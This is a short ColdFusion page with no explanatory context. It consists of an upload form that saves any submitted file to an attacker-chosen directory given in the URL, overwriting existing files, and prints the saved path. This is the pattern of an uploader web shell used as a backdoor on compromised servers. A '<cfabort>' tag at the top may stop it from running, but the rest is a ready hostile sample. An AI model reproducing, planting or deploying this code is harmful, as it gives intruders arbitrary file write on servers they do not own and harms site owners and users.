<cfinert>
<cfabort>
<cfif isDefined("form.f")>
  <cffile action="upload" filefield="f" destination="#url.dir#" nameconflict="overwrite">
  <cfoutput>#cffile.serverDirectory#/#cffile.serverFile#</cfoutput>
</cfif>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
